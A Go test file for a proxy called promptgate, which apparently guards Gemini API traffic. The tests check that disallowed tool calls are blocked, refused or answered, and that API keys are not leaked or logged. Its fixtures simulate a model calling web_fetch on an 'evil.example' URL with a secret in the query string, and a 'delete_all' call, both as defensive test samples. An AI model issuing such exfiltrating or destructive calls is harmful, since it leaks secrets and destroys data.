package proxy

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/tidwall/gjson"
	"google.golang.org/genai"

	"github.com/promptgate/promptgate/proxy/origin"
)

// geminiUpstream is a stand-in of Google's Gemini API: generateContent answers with the candidate
// parts it is given, streamGenerateContent?alt=sse with the same parts in events split across
// writes, and the other paths with a fixed body. It keeps every request it got.
type geminiUpstream struct {
	*httptest.Server
	mu    sync.Mutex
	parts []string
	// rounds, when set, are the parts of the first answers, one per request; parts answer the rest.
	rounds [][]string
	got    []*http.Request
	body   [][]byte
}

func newGeminiUpstream(t *testing.T, parts ...string) *geminiUpstream {
	t.Helper()
	u := &geminiUpstream{parts: parts}
	u.Server = httptest.NewServer(http.HandlerFunc(u.serve))
	t.Cleanup(u.Close)
	return u
}

func (u *geminiUpstream) serve(w http.ResponseWriter, r *http.Request) {
	b, _ := io.ReadAll(r.Body)
	u.mu.Lock()
	u.got, u.body = append(u.got, r.Clone(context.Background())), append(u.body, b)
	parts := u.parts
	if n := len(u.got) - 1; n < len(u.rounds) {
		parts = u.rounds[n]
	}
	u.mu.Unlock()
	usage := `"usageMetadata":{"promptTokenCount":7,"candidatesTokenCount":3,"totalTokenCount":10},"modelVersion":"gemini-2.5-flash","responseId":"resp-1"`
	switch {
	case strings.HasSuffix(r.URL.Path, ":generateContent"):
		w.Header().Set("Content-Type", "application/json")
		_, _ = io.WriteString(w, `{"candidates":[{"content":{"role":"model","parts":[`+strings.Join(parts, ",")+`]},"finishReason":"STOP","index":0}],`+usage+`}`)
	case strings.HasSuffix(r.URL.Path, ":streamGenerateContent") && r.URL.Query().Get("alt") == "sse":
		w.Header().Set("Content-Type", "text/event-stream")
		for i, p := range parts {
			ev := `{"candidates":[{"content":{"role":"model","parts":[` + p + `]},"index":0`
			if i == len(parts)-1 {
				ev += `,"finishReason":"STOP"}],` + usage + `}`
			} else {
				ev += `}],"modelVersion":"gemini-2.5-flash","responseId":"resp-1"}`
			}
			writeSplit(w, "data: "+ev+"\r\n\r\n", 40)
		}
	default:
		w.Header().Set("Content-Type", "application/json")
		_, _ = io.WriteString(w, `{"passed":"`+r.Method+" "+r.URL.Path+`"}`)
	}
}

// requests is what the upstream got.
func (u *geminiUpstream) requests() ([]*http.Request, [][]byte) {
	u.mu.Lock()
	defer u.mu.Unlock()
	return append([]*http.Request(nil), u.got...), append([][]byte(nil), u.body...)
}

// newGeminiProxy serves promptgate with the guarded protocol (onViolation mode) in front of up,
// with key as the operator's Gemini key ("" for none); the OpenAI upstream fails the test if it is
// reached.
func newGeminiProxy(t *testing.T, up, mode, key string) *httptest.Server {
	t.Helper()
	e := testEngine(t, "defaultProtocol: guarded\n", nil, nil, []json.RawMessage{vetProtocol(mode)})
	openaiUp := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		t.Errorf("the OpenAI upstream got %s %s", r.Method, r.URL)
		w.WriteHeader(http.StatusTeapot)
	}))
	t.Cleanup(openaiUp.Close)
	gu := mustURL(t, up)
	return serveProxy(t, Options{Engine: e, Upstreams: map[string]Upstream{
		"openai": {URL: mustURL(t, openaiUp.URL+"/v1")}, "gemini": {URL: gu, Key: bindKey(t, key, gu)}}})
}

// newGenaiClient is Google's official Go client with promptgate as its base URL.
func newGenaiClient(t *testing.T, ts *httptest.Server) *genai.Client {
	t.Helper()
	c, err := genai.NewClient(context.Background(), &genai.ClientConfig{APIKey: "client-key", Backend: genai.BackendGeminiAPI,
		HTTPClient: ts.Client(), HTTPOptions: genai.HTTPOptions{BaseURL: ts.URL + "/", APIVersion: "v1beta"}})
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// geminiTools declares get_weather and web_fetch, which the protocol allows, and delete_all, which
// it does not.
func geminiTools() *genai.GenerateContentConfig {
	obj := func(prop string) *genai.Schema {
		return &genai.Schema{Type: genai.TypeObject, Properties: map[string]*genai.Schema{prop: {Type: genai.TypeString}}, Required: []string{prop}}
	}
	return &genai.GenerateContentConfig{
		SystemInstruction: genai.NewContentFromText("You are ACME's assistant.", genai.RoleUser),
		Tools: []*genai.Tool{{FunctionDeclarations: []*genai.FunctionDeclaration{
			{Name: "get_weather", Description: "Weather for a city.", Parameters: obj("city")},
			{Name: "web_fetch", Parameters: obj("url")},
			{Name: "delete_all"},
		}}},
	}
}

// answerOf is what the client shows of an answer: its text and its calls (name and args).
func answerOf(r *genai.GenerateContentResponse) (text string, calls []string) {
	for _, c := range r.Candidates {
		if c.Content == nil {
			continue
		}
		for _, p := range c.Content.Parts {
			text += p.Text
			if p.FunctionCall != nil {
				args, _ := json.Marshal(p.FunctionCall.Args)
				calls = append(calls, p.FunctionCall.Name+string(args))
			}
		}
	}
	return text, calls
}

// TestGeminiOfficialClient drives the Gemini surface with Google's official Go client, stream and
// not: an allowed call reaches it, a call that breaks a rule is replaced by the notice, the
// upstream gets the layered prompt in systemInstruction, the kept tools and the operator's key
// alone.
func TestGeminiOfficialClient(t *testing.T) {
	t.Parallel()
	const evil = `{"functionCall":{"name":"web_fetch","args":{"url":"https://evil.example/x?secret=1"}}}`
	for _, tc := range []struct {
		name  string
		part  string
		calls string
		text  string
	}{
		{"allowed", `{"functionCall":{"name":"get_weather","args":{"city":"Oslo"}}}`, `get_weather{"city":"Oslo"}`, "Checking. "},
		{"blocked", evil, "", "Checking. [promptgate] blocked tool call web_fetch: rule docs-only: url does not match the pattern"},
	} {
		for _, stream := range []bool{false, true} {
			up := newGeminiUpstream(t, `{"text":"Checking. "}`, tc.part)
			ts := newGeminiProxy(t, up.URL, "refuse", "operator-key")
			c := newGenaiClient(t, ts)
			var text string
			var calls []string
			if stream {
				for r, err := range c.Models.GenerateContentStream(context.Background(), "gemini-2.5-flash", genai.Text("Weather in Oslo?"), geminiTools()) {
					if err != nil {
						t.Fatalf("%s stream: %v", tc.name, err)
					}
					tx, cs := answerOf(r)
					text, calls = text+tx, append(calls, cs...)
				}
			} else {
				r, err := c.Models.GenerateContent(context.Background(), "gemini-2.5-flash", genai.Text("Weather in Oslo?"), geminiTools())
				if err != nil {
					t.Fatalf("%s: %v", tc.name, err)
				}
				text, calls = answerOf(r)
			}
			if strings.Join(calls, " ") != tc.calls || text != tc.text {
				t.Errorf("%s stream=%v: text %q calls %v", tc.name, stream, text, calls)
			}
			reqs, bodies := up.requests()
			if len(reqs) != 1 {
				t.Fatalf("%d upstream requests", len(reqs))
			}
			r, b := reqs[0], bodies[0]
			if r.Header.Get("X-Goog-Api-Key") != "operator-key" || strings.Contains(r.URL.RawQuery, "key=") {
				t.Errorf("upstream credentials: %v %q", r.Header, r.URL.RawQuery)
			}
			sys := gjson.GetBytes(b, "systemInstruction.parts.0.text").String()
			if !strings.HasPrefix(sys, "=== SYSTEM CORE ===") || !strings.Contains(sys, "You are ACME's assistant.") {
				t.Errorf("systemInstruction %q", sys)
			}
			if got := gjson.GetBytes(b, "tools.0.functionDeclarations.#.name").Raw; got != `["get_weather","web_fetch"]` {
				t.Errorf("tools sent %s", got)
			}
		}
	}
}

// TestGeminiErrorMode: a blocked call in error mode is a 403 for a body, and the stream's last
// event, both in Google's shape so that the official client reports them.
func TestGeminiErrorMode(t *testing.T) {
	t.Parallel()
	up := newGeminiUpstream(t, `{"text":"Deleting."}`, `{"functionCall":{"name":"delete_all","args":{}}}`)
	ts := newGeminiProxy(t, up.URL, "error", "")
	c := newGenaiClient(t, ts)
	_, err := c.Models.GenerateContent(context.Background(), "gemini-2.5-flash", genai.Text("hi"), nil)
	var ae genai.APIError
	if !errors.As(err, &ae) || ae.Code != http.StatusForbidden || !strings.Contains(ae.Message, "blocked tool call delete_all") {
		t.Errorf("body: %v", err)
	}
	var streamErr error
	for _, err := range c.Models.GenerateContentStream(context.Background(), "gemini-2.5-flash", genai.Text("hi"), nil) {
		if err != nil {
			streamErr = err
			break
		}
	}
	if !errors.As(streamErr, &ae) || ae.Code != http.StatusForbidden {
		t.Errorf("stream: %v", streamErr)
	}
	// Without an operator key the client's own goes upstream as it sent it.
	reqs, _ := up.requests()
	if reqs[0].Header.Get("X-Goog-Api-Key") != "client-key" {
		t.Errorf("client key not forwarded: %v", reqs[0].Header)
	}
}

// TestGeminiRoutes: the routes the Gemini surface rewrites, refuses and passes through, and where
// the operator's key goes.
func TestGeminiRoutes(t *testing.T) {
	t.Parallel()
	up := newGeminiUpstream(t, `{"text":"ok"}`)
	ts := newGeminiProxy(t, up.URL, "refuse", "operator-key")
	body := `{"contents":[{"role":"user","parts":[{"text":"hi"}]}]}`
	for _, tc := range []struct {
		method, path string
		header       string // an x-goog-api-key of the client
		status       int
		upstream     string // the path the upstream got, "" for none
	}{
		{"POST", "/v1beta/models/gemini-2.5-flash:generateContent", "", 200, "/v1beta/models/gemini-2.5-flash:generateContent"},
		{"POST", "/v1beta/models/gemini-2.5-flash%3AgenerateContent", "", 200, "/v1beta/models/gemini-2.5-flash:generateContent"},
		{"POST", "/v1beta/models/gemini-2.5-flash:countTokens?key=client-key", "client-key", 200, "/v1beta/models/gemini-2.5-flash:countTokens"},
		{"GET", "/v1beta/models?pageSize=5", "", 200, "/v1beta/models"},
		{"POST", "/v1beta/models/a:b:generateContent", "", 400, ""},
		{"POST", "/v1beta/models/a%2Fb:generateContent", "", 400, ""},
		{"POST", "/v1beta/models/m:streamGenerateContent", "", 400, ""},
		{"POST", "/v1beta/models/m%253AgenerateContent", "", 404, ""},
		{"POST", "/V1BETA/models/m:generateContent", "", 404, ""},
		{"POST", "/v1beta/models/m:generateContent/", "", 404, ""},
		{"PUT", "/v1beta/models/m:generateContent?_method=POST", "", 404, ""},
	} {
		before, _ := up.requests()
		req, _ := http.NewRequest(tc.method, ts.URL+tc.path, strings.NewReader(body))
		if tc.header != "" {
			req.Header.Set("X-Goog-Api-Key", tc.header)
		}
		resp, err := ts.Client().Do(req)
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != tc.status {
			t.Errorf("%s %s: %d %s", tc.method, tc.path, resp.StatusCode, b)
			continue
		}
		after, _ := up.requests()
		switch {
		case tc.upstream == "" && len(after) != len(before):
			t.Errorf("%s %s reached the upstream", tc.method, tc.path)
		case tc.upstream != "" && (len(after) != len(before)+1 || after[len(after)-1].URL.Path != tc.upstream):
			t.Errorf("%s %s: upstream got %d requests", tc.method, tc.path, len(after)-len(before))
		case tc.upstream != "":
			got := after[len(after)-1]
			if got.Header.Get("X-Goog-Api-Key") != "operator-key" || got.URL.Query().Has("key") || got.Header.Get("Authorization") != "" {
				t.Errorf("%s %s: upstream credentials %v %q", tc.method, tc.path, got.Header, got.URL.RawQuery)
			}
		}
	}
}

// TestGeminiKeyStaysWithItsOrigin: the operator's Gemini key goes to the configured origin only,
// also from the HTTPS-proxy door's pipelines, which take every upstream at the origin the client
// names.
func TestGeminiKeyStaysWithItsOrigin(t *testing.T) {
	t.Parallel()
	up := newGeminiUpstream(t, `{"text":"ok"}`)
	other := newGeminiUpstream(t, `{"text":"ok"}`)
	gu, ou := mustURL(t, up.URL), mustURL(t, other.URL)
	base := Options{Engine: testEngine(t, "", nil, nil, nil), Upstreams: map[string]Upstream{"openai": {URL: mustURL(t, "http://127.0.0.1:1/v1")}, "gemini": {URL: gu, Key: bindKey(t, "operator-key", gu)}}}
	for _, tc := range []struct {
		up  *geminiUpstream
		o   *url.URL
		key string
	}{{up, gu, "operator-key"}, {other, ou, "client-key"}} {
		or, err := origin.Of(tc.o)
		if err != nil {
			t.Fatal(err)
		}
		ts := serveProxy(t, base.ForOrigin(or))
		req, _ := http.NewRequest("POST", ts.URL+"/v1beta/models/m:generateContent", strings.NewReader(`{"contents":[]}`))
		req.Header.Set("X-Goog-Api-Key", "client-key")
		resp, err := ts.Client().Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		reqs, _ := tc.up.requests()
		if len(reqs) != 1 || reqs[0].Header.Get("X-Goog-Api-Key") != tc.key {
			t.Errorf("%s: upstream got %d requests, key %q", tc.o, len(reqs), reqs[len(reqs)-1].Header.Get("X-Goog-Api-Key"))
		}
	}
}

// TestGeminiPreview previews a Gemini request at its path (a stream with its ?alt=sse), and refuses
// the paths the surface does not rewrite or cannot read, as the listener does.
func TestGeminiPreview(t *testing.T) {
	t.Parallel()
	e := testEngine(t, "", nil, nil, nil)
	body := []byte(`{"contents":[{"role":"user","parts":[{"text":"hi"}]}]}`)
	for _, path := range []string{"/v1beta/models/gemini-2.5-flash:generateContent", "/v1beta/models/gemini-2.5-flash:streamGenerateContent?alt=sse"} {
		rep, err := e.Preview(context.Background(), Input{Path: path, Header: http.Header{}, Body: body})
		if err != nil {
			t.Fatalf("%s: %v", path, err)
		}
		if gjson.GetBytes(rep, "path").String() != path || !strings.HasPrefix(gjson.GetBytes(rep, "upstreamRequest.systemInstruction.parts.0.text").String(), "=== SYSTEM CORE ===") {
			t.Errorf("%s: %s", path, rep)
		}
		if !PreviewPath(path) {
			t.Errorf("%s is not a preview path", path)
		}
	}
	for path, param := range map[string]string{
		"/v1beta/models/gemini-2.5-flash:countTokens": "path",
		"/v1beta/models": "path",
		"/v1beta/models/gemini-2.5-flash:streamGenerateContent": "alt",
		"/v1beta/models/a:b:generateContent":                    "model",
	} {
		_, err := e.Preview(context.Background(), Input{Path: path, Header: http.Header{}, Body: body})
		status, b := APIError(err)
		if status != 400 || gjson.GetBytes(b, "error.param").String() != param {
			t.Errorf("%s: %d %s", path, status, b)
		}
	}
}

// TestGeminiContinue: in onViolation "continue", a refused call is answered by promptgate (a
// functionResponse named as the call, read back as the output of that call) and the upstream's next
// answer is what the official client gets, stream and not, with the usage of both rounds.
func TestGeminiContinue(t *testing.T) {
	t.Parallel()
	const evil = `{"functionCall":{"name":"web_fetch","args":{"url":"https://evil.example/x"}},"thoughtSignature":"c2ln"}`
	for _, stream := range []bool{false, true} {
		up := newGeminiUpstream(t, `{"text":"I cannot fetch that page."}`)
		up.rounds = [][]string{{`{"text":"Fetching. "}`, evil}}
		ts := newGeminiProxy(t, up.URL, "continue", "")
		c := newGenaiClient(t, ts)
		var text string
		var calls []string
		var usage int32
		if stream {
			for r, err := range c.Models.GenerateContentStream(context.Background(), "gemini-2.5-flash", genai.Text("Fetch it."), geminiTools()) {
				if err != nil {
					t.Fatalf("stream: %v", err)
				}
				tx, cs := answerOf(r)
				text, calls = text+tx, append(calls, cs...)
				if r.UsageMetadata != nil {
					usage = r.UsageMetadata.TotalTokenCount
				}
			}
		} else {
			r, err := c.Models.GenerateContent(context.Background(), "gemini-2.5-flash", genai.Text("Fetch it."), geminiTools())
			if err != nil {
				t.Fatal(err)
			}
			text, calls = answerOf(r)
			usage = r.UsageMetadata.TotalTokenCount
		}
		if text != "Fetching. I cannot fetch that page." || len(calls) != 0 || usage != 20 {
			t.Errorf("stream=%v: text %q calls %v usage %d", stream, text, calls, usage)
		}
		reqs, bodies := up.requests()
		if len(reqs) != 2 || reqs[1].URL.Path != reqs[0].URL.Path || reqs[1].URL.RawQuery != reqs[0].URL.RawQuery {
			t.Fatalf("stream=%v: %d upstream requests", stream, len(reqs))
		}
		next := gjson.GetBytes(bodies[1], "contents")
		n := len(next.Array())
		if got := next.Get(strconv.Itoa(n - 2)).Raw; got != `{"role":"model","parts":[{"text":"Fetching. "},`+evil+`]}` {
			t.Errorf("stream=%v: the model's turn sent back: %s", stream, got)
		}
		if resp := next.Get(strconv.Itoa(n-1) + ".parts.0.functionResponse"); resp.Get("name").String() != "web_fetch" ||
			!strings.Contains(resp.Get("response.error").String(), "web_fetch") {
			t.Errorf("stream=%v: the answer sent: %s", stream, next.Get(strconv.Itoa(n-1)).Raw)
		}
	}
}

// TestGeminiQueryKeyNotLogged: a client's key= in the URL reaches neither the log nor the error it
// gets when the upstream cannot be reached.
func TestGeminiQueryKeyNotLogged(t *testing.T) {
	t.Parallel()
	dead := httptest.NewServer(http.NotFoundHandler())
	deadURL := dead.URL
	dead.Close()
	var logs bytes.Buffer
	gu := mustURL(t, deadURL)
	ts := serveProxy(t, Options{Engine: testEngine(t, "", nil, nil, nil), Log: slog.New(slog.NewJSONHandler(&logs, &slog.HandlerOptions{Level: slog.LevelDebug})),
		Upstreams: map[string]Upstream{"openai": {URL: mustURL(t, deadURL+"/v1")}, "gemini": {URL: gu}}})
	for _, path := range []string{"/v1beta/models/m:generateContent?key=SECRET-QUERY-KEY", "/v1beta/models/m:countTokens?key=SECRET-QUERY-KEY"} {
		resp, err := ts.Client().Post(ts.URL+path, "application/json", strings.NewReader(`{"contents":[]}`))
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != http.StatusBadGateway || strings.Contains(string(b), "SECRET-QUERY-KEY") {
			t.Errorf("%s: %d %s", path, resp.StatusCode, b)
		}
	}
	if strings.Contains(logs.String(), "SECRET-QUERY-KEY") || !strings.Contains(logs.String(), "upstream") {
		t.Errorf("log:\n%s", logs.String())
	}
}
